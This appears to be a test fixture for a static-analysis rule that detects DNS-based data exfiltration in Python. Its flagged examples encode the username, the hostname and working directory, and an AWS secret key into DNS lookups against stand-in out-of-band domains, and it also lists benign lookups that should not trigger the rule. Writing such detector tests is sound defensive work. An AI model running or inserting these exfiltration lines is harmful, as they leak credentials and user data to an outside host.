"""Fixture for py-exfil-dns.

RULEID: hex-encoded username in a subdomain, hostname+cwd in an f-string name, base64 of env.
OK: resolving a configured host, resolving a service name built from a namespace setting.
"""
import base64
import getpass
import os
import socket

import dns.resolver

ZONE = "t.example-oob.net"
data = getpass.getuser().encode().hex()
# ruleid: py-exfil-dns
socket.gethostbyname(f"{getpass.getuser().encode().hex()}.{ZONE}")
# ruleid: py-exfil-dns
socket.getaddrinfo(f"{socket.gethostname()}.{os.getcwd().replace('/', '-')}.{ZONE}", 53)
# ruleid: py-exfil-dns
dns.resolver.resolve(base64.b32encode(os.environ["AWS_SECRET_ACCESS_KEY"].encode()).decode() + ".x.example-oob.net", "A")


def discover(settings):
    # ok: py-exfil-dns
    socket.gethostbyname(settings.db_host)
    # ok: py-exfil-dns
    socket.getaddrinfo(f"{settings.service}.{settings.namespace}.svc.cluster.local", 443)
